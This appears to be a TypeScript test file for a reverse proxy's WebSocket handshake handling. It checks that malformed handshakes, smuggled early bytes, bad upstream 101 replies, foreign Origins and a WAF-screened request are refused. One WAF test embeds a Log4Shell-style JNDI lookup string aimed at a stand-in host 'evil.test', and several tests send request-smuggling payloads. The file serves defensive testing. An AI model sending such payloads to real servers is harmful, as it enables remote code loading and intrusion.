import assert from "node:assert/strict";
import { test } from "node:test";
import { ok, rawAnswer, type Script } from "../support/origin.ts";
import { ask, connect, field, fieldAll } from "../support/raw-client.ts";
import { accepting, frame, handshake, key, masked, switching } from "../support/websocket.ts";
import { startBench } from "./bench.ts";
import { get, head } from "./case.ts";

// RFC 6455 §4, and reliability.md §2.9: only a real handshake that the upstream really takes becomes a tunnel.

const route = 'mode = "websocket"';

const refusals: readonly (readonly [title: string, request: string, status: number, reason: string])[] = [
  ["another version", handshake("Sec-WebSocket-Version: 777"), 426, "websocket_version"],
  ["an old version", handshake("Sec-WebSocket-Version: 8"), 426, "websocket_version"],
  ["two versions", handshake("Sec-WebSocket-Version: 13", "Sec-WebSocket-Version: 13"), 400, "singleton_dup"],
  ["an empty key", handshake("Sec-WebSocket-Key:"), 400, "websocket_handshake"],
  ["a key of 15 bytes", handshake("Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAA"), 400, "websocket_handshake"],
  ["a key of 17 bytes", handshake("Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAAA="), 400, "websocket_handshake"],
  [
    "a key written in another way",
    handshake("Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAB=="),
    400,
    "websocket_handshake",
  ],
  ["two keys", handshake(`Sec-WebSocket-Key: ${key}`, `Sec-WebSocket-Key: ${key}`), 400, "singleton_dup"],
  ["a list of protocols", handshake("Upgrade: tcp, websocket"), 400, "websocket_handshake"],
  ["two Upgrade fields", handshake("Upgrade: websocket", "Upgrade: h2c"), 400, "websocket_handshake"],
  ["a version in the protocol", handshake("Upgrade: websocket/13"), 400, "websocket_handshake"],
  ["a body with a length", `${handshake("Content-Length: 5")}hello`, 400, "upgrade_body"],
  ["a chunked body", `${handshake("Transfer-Encoding: chunked")}0\r\n\r\n`, 400, "upgrade_body"],
  ["POST", handshake("Content-Length: 0").replace("GET", "POST"), 400, "websocket_handshake"],
  ["POST with a body", `${handshake("Content-Length: 5").replace("GET", "POST")}hello`, 400, "upgrade_body"],
  ["HEAD", handshake().replace("GET", "HEAD"), 400, "websocket_handshake"],
  ["the key named in Connection", handshake("Connection: Upgrade, Sec-WebSocket-Key"), 400, "hop_nominated"],
  ["bytes in the same segment", `${handshake()}${get("/smuggled")}`, 400, "websocket_early"],
];
for (const [title, request, status, reason] of refusals) {
  test(`a handshake with ${title} is refused, and its connection ends`, async (t) => {
    const { edge, origin } = await startBench(t, { route, script: accepting });
    const client = await connect(edge.port);
    client.send(request);
    const answer = await client.answer(request.startsWith("HEAD") ? "HEAD" : "GET");
    assert.equal(answer?.status, status);
    assert.equal(field(answer, "connection"), status === 426 ? "Upgrade" : "close");
    assert.equal((await edge.logLine(field(answer, "x-request-id")!))["zion.reason"], reason);
    client.send(get("/after"));
    await client.untilOver();
    assert.equal(client.rest.length, 0);
    // Bytes that come too early are seen when the handshake is already on its way.
    assert.ok(origin.requests.every(({ target }) => target === "/chat"));
    if (reason !== "websocket_early") assert.deepEqual(origin.requests.length, 0);
    assert.ok(origin.connections.every((connection) => !connection.received().includes("smuggled")));
  });
}

test("426 says which version is spoken", async (t) => {
  const { edge } = await startBench(t, { route });
  const answer = await ask(edge.port, handshake("Sec-WebSocket-Version: 0"));
  assert.deepEqual(fieldAll(answer, "sec-websocket-version"), ["13"]);
  assert.deepEqual(fieldAll(answer, "upgrade"), ["websocket"]);
  assert.deepEqual(fieldAll(answer, "connection"), ["Upgrade", "close"]);
});

for (const [title, request] of [
  ["HTTP/1.0", handshake().replace("HTTP/1.1", "HTTP/1.0")],
  ["h2c", handshake("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABk")],
  ["no Connection: upgrade", handshake("Connection: keep-alive")],
] as const) {
  test(`an upgrade with ${title} is a plain request`, async (t) => {
    const { edge, origin } = await startBench(t, { route });
    const answer = await ask(edge.port, request);
    assert.deepEqual([answer.status, answer.body.toString()], [200, "ok"]);
    const names = origin.requests[0]!.fields.map(([name]) => name);
    for (const name of ["upgrade", "connection", "http2-settings"]) assert.ok(!names.includes(name), name);
  });
}

test("on other routes a handshake is a plain request, which is counted", async (t) => {
  const { edge, origin } = await startBench(t);
  const answer = await ask(edge.port, handshake());
  assert.equal(answer.status, 200);
  assert.ok(origin.requests[0]!.fields.every(([name]) => name !== "upgrade" && name !== "connection"));
  assert.equal(edge.metric("zion_websocket_upgrades_total", "ignored"), 1);
});

test("on other routes an upstream that switches anyway is not followed", async (t) => {
  const { edge, origin } = await startBench(t, { script: accepting });
  const client = await connect(edge.port);
  client.send(handshake());
  const answer = await client.answer();
  assert.equal(answer?.status, 502);
  await origin.requests[0]!.connection.over;
  client.destroy();
});

test("a route edits the answer to a handshake like any other", async (t) => {
  const long = "a".repeat(4000);
  const lines = Array.from({ length: 12 }, (_, at) => `X-Long-${at} = "${long}"`).join(", ");
  const { edge } = await startBench(t, {
    route: `${route}\n[route.response_headers]\nset = { ${lines} }\nremove = ["x-inner"]`,
    script: (request, connection) => void connection.socket.write(switching(request, "X-Inner: 10.0.0.7")),
  });
  const client = await connect(edge.port);
  client.send(handshake());
  const answer = await client.answer();
  assert.equal(answer?.status, 101);
  assert.deepEqual(fieldAll(answer!, "x-inner"), []);
  assert.deepEqual(fieldAll(answer!, "x-long-11"), [long]);
  assert.deepEqual(fieldAll(answer!, "upgrade"), ["websocket"]);
  client.destroy();
});

test("a correct handshake arrives whole, and so does its answer", async (t) => {
  const { edge, origin } = await startBench(t, {
    route,
    script: (request, connection) =>
      void connection.socket.write(
        switching(request, "Sec-WebSocket-Protocol: chat", "Set-Cookie: a=1", "Server: x/1"),
      ),
  });
  const client = await connect(edge.port);
  client.send(
    handshake(
      "Sec-WebSocket-Protocol: chat, superchat",
      "Sec-WebSocket-Extensions: permessage-deflate",
      "Cookie: s=1",
    ),
  );
  const answer = await client.answer();
  assert.equal(answer?.statusLine, "HTTP/1.1 101 Switching Protocols");
  assert.deepEqual(fieldAll(answer!, "connection"), ["Upgrade"]);
  assert.deepEqual(fieldAll(answer!, "upgrade"), ["websocket"]);
  assert.deepEqual(fieldAll(answer!, "sec-websocket-accept"), ["s3pPLMBiTxaQ9kYGzzhZRbK+xOo="]);
  assert.deepEqual(fieldAll(answer!, "sec-websocket-protocol"), ["chat"]);
  assert.deepEqual(fieldAll(answer!, "set-cookie"), ["a=1"]);
  for (const name of ["server", "content-length", "transfer-encoding"])
    assert.deepEqual(fieldAll(answer!, name), [], name);
  const { fields, method, target } = origin.requests[0]!;
  assert.deepEqual([method, target], ["GET", "/chat"]);
  const sent = (name: string): string[] => fields.filter(([at]) => at === name).map(([, value]) => value);
  assert.deepEqual(sent("connection"), ["Upgrade"]);
  assert.deepEqual(sent("upgrade"), ["websocket"]);
  assert.deepEqual(sent("sec-websocket-key"), [key]);
  assert.deepEqual(sent("sec-websocket-version"), ["13"]);
  assert.deepEqual(sent("sec-websocket-protocol"), ["chat, superchat"]);
  assert.deepEqual(sent("sec-websocket-extensions"), ["permessage-deflate"]);
  assert.deepEqual(sent("cookie"), ["s=1"]);
  client.destroy();
});

const noSwitch: readonly (readonly [title: string, answer: (good: string) => string, detail: string])[] = [
  ["no Accept", (good) => good.replace(/Sec-WebSocket-Accept: .*\r\n/, ""), "switch_accept"],
  ["another key's Accept", (good) => good.replace(/Accept: .{4}/, "Accept: AAAA"), "switch_accept"],
  ["two Accepts", (good) => good.replace(/(Sec-WebSocket-Accept: .*\r\n)/, "$1$1"), "switch_accept"],
  ["another protocol", (good) => good.replace("Upgrade: websocket", "Upgrade: h2c"), "switch_protocol"],
  ["no Upgrade", (good) => good.replace("Upgrade: websocket\r\n", ""), "switch_protocol"],
  ["no Connection", (good) => good.replace("Connection: Upgrade\r\n", ""), "switch_protocol"],
  [
    "a transfer coding",
    (good) => good.replace("\r\n\r\n", "\r\nTransfer-Encoding: chunked\r\n\r\n"),
    "switch_body",
  ],
  [
    "an extension that nobody offered",
    (good) => good.replace("\r\n\r\n", "\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n"),
    "switch_extension",
  ],
  ["HTTP/1.0", (good) => good.replace("HTTP/1.1", "HTTP/1.0"), "switch_version"],
];
for (const [title, change, detail] of noSwitch) {
  test(`a 101 with ${title} makes no tunnel`, async (t) => {
    const script: Script = (request, connection) =>
      void connection.socket.write(
        change(switching(request)) + frame(1, "tunnel").toString("latin1"),
        "latin1",
      );
    const { edge, origin } = await startBench(t, { route, script });
    const client = await connect(edge.port);
    client.send(handshake());
    const answer = await client.answer();
    assert.equal(answer?.status, 502);
    const line = await edge.logLine(field(answer, "x-request-id")!);
    assert.deepEqual([line["zion.reason"], line["zion.detail"]], ["upstream_invalid", detail]);
    await client.untilOver();
    assert.equal(client.rest.length, 0);
    await origin.requests[0]!.connection.over;
  });
}

for (const status of [200, 204, 400, 404, 426]) {
  test(`an upstream that answers ${status} is relayed, and nothing follows on either connection`, async (t) => {
    const { edge, origin } = await startBench(t, {
      route,
      script: rawAnswer(
        status === 204
          ? "HTTP/1.1 204 No\r\n\r\n"
          : `HTTP/1.1 ${status} Word\r\nContent-Length: 4\r\n\r\nnope`,
      ),
    });
    const client = await connect(edge.port);
    client.send(handshake());
    const answer = await client.answer();
    assert.deepEqual([answer?.status, answer?.body.toString()], [status, status === 204 ? "" : "nope"]);
    assert.equal(field(answer!, "connection"), "close");
    client.send(masked(1, "frame"));
    client.send(get("/smuggled"));
    await client.untilOver();
    assert.equal(client.rest.length, 0);
    assert.deepEqual(
      origin.connections.map((connection) => connection.leftover().length),
      [0],
    );
    assert.equal(edge.metric("zion_websocket_upgrades_total", "declined"), 1);
    assert.equal(edge.metric("zion_websocket_connections"), 0);
  });
}

test("frames before the answer end the exchange and never reach an upstream", async (t) => {
  // CVE-2026-73548: held bytes that went to a connection which another client used next.
  let answerNow: (() => void) | undefined;
  const { edge, origin } = await startBench(t, {
    route,
    script: (request, connection) => {
      if (request.target !== "/chat") connection.socket.write(ok("plain"));
      else answerNow = () => void connection.socket.write(ok("no"));
    },
  });
  const client = await connect(edge.port);
  client.send(handshake());
  const { connection } = await origin.request(0);
  client.send(masked(1, "too early"));
  const answer = await client.answer();
  assert.equal(answer?.status, 400);
  assert.equal((await edge.logLine(field(answer!, "x-request-id")!))["zion.reason"], "websocket_early");
  await connection.over;
  answerNow!();
  assert.equal((await ask(edge.port, get("/next"))).body.toString(), "plain");
  assert.ok(origin.connections.every((one) => one.leftover().length === 0));
});

test("a client that leaves during its handshake takes the upstream's connection along", async (t) => {
  const { edge, origin } = await startBench(t, { route, script: () => undefined });
  for (const leave of ["end", "reset"] as const) {
    origin.forget();
    const client = await connect(edge.port);
    client.send(handshake());
    const { connection } = await origin.request(0);
    client[leave]();
    await connection.over;
  }
  assert.equal(edge.metric("zion_websocket_connections"), 0);
});

for (const [title, lines, origin, status] of [
  ["the request's own host", "", "https://a.test", 101],
  ["the request's own host, in any case and over plain HTTP", "", "http://A.TEST", 101],
  ["no Origin: no browser", "", undefined, 101],
  ["another host", "", "https://evil.test", 403],
  ["a host that begins with ours", "", "https://a.test.evil.test", 403],
  ["our host on another port", "", "https://a.test:8443", 403],
  ["a sandboxed page", "", "null", 403],
  ["a listed page", 'websocket_origins = ["https://app.test"]', "https://app.test", 101],
  [
    "a listed page, with the usual port",
    'websocket_origins = ["https://app.test:443"]',
    "https://app.test",
    101,
  ],
  ["the own host where others are listed", 'websocket_origins = ["https://app.test"]', "https://a.test", 403],
  ["a listed host with another scheme", 'websocket_origins = ["https://app.test"]', "http://app.test", 403],
  ["a page below a suffix", 'websocket_origins = ["https://*.app.test"]', "https://x.y.app.test", 101],
  ["the suffix itself", 'websocket_origins = ["https://*.app.test"]', "https://app.test", 403],
  [
    "a host that ends like a suffix",
    'websocket_origins = ["https://*.app.test"]',
    "https://evilapp.test",
    403,
  ],
  ["a listed null", 'websocket_origins = ["null"]', "null", 101],
  ["anybody, where all are listed", 'websocket_origins = ["*"]', "https://evil.test", 101],
] as const) {
  test(`origins: ${title} gets ${status}`, async (t) => {
    const { edge, origin: upstream } = await startBench(t, {
      route: `${route}\n${lines}`,
      script: accepting,
    });
    const client = await connect(edge.port);
    client.send(origin === undefined ? handshake() : handshake(`Origin: ${origin}`));
    const answer = await client.answer();
    assert.equal(answer?.status, status);
    assert.equal(upstream.requests.length, status === 101 ? 1 : 0);
    if (status === 403)
      assert.equal((await edge.logLine(field(answer, "x-request-id")!))["zion.reason"], "websocket_origin");
    client.destroy();
  });
}

test("gates before the handshake refuse it like any request", async (t) => {
  const { edge, origin } = await startBench(t, {
    route,
    waf: true,
    script: accepting,
  });
  const attack = handshake("X-Probe: ${jndi:ldap://evil.test/a}");
  const answer = await ask(edge.port, attack);
  assert.deepEqual([answer.status, answer.body.toString()], [400, "request rejected"]);
  assert.equal(origin.connections.length, 0);
  assert.equal(edge.metric("zion_websocket_upgrades_total", "refused"), 1);
  const client = await connect(edge.port);
  client.send(
    handshake(
      "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits",
      "Origin: http://a.test",
    ),
  );
  assert.equal((await client.answer())?.status, 101);
  client.destroy();
});

test("plain requests are served on a route for WebSocket", async (t) => {
  const { edge } = await startBench(t, { route });
  const answer = await ask(edge.port, head("GET /chat/poll HTTP/1.1", "Host: a.test"));
  assert.deepEqual([answer.status, answer.body.toString()], [200, "ok"]);
});

test("a route holds no more WebSockets than it may, and has room again when one ends", async (t) => {
  const { edge } = await startBench(t, { route: `${route}\nmax_streams = 2`, script: accepting });
  const clients = await Promise.all([connect(edge.port), connect(edge.port)]);
  for (const client of clients) {
    client.send(handshake());
    assert.equal((await client.answer())?.status, 101);
  }
  const refused = await ask(edge.port, handshake());
  assert.equal(refused.status, 503);
  assert.equal((await edge.logLine(field(refused, "x-request-id")!))["zion.reason"], "stream_cap");
  clients[0]!.send(masked(8, Buffer.from([3, 232])));
  clients[0]!.end();
  await clients[0]!.untilOver();
  const again = await connect(edge.port);
  again.send(handshake());
  assert.equal((await again.answer())?.status, 101);
  assert.equal(edge.metric("zion_websocket_connections"), 2);
  again.destroy();
  clients[1]!.destroy();
});
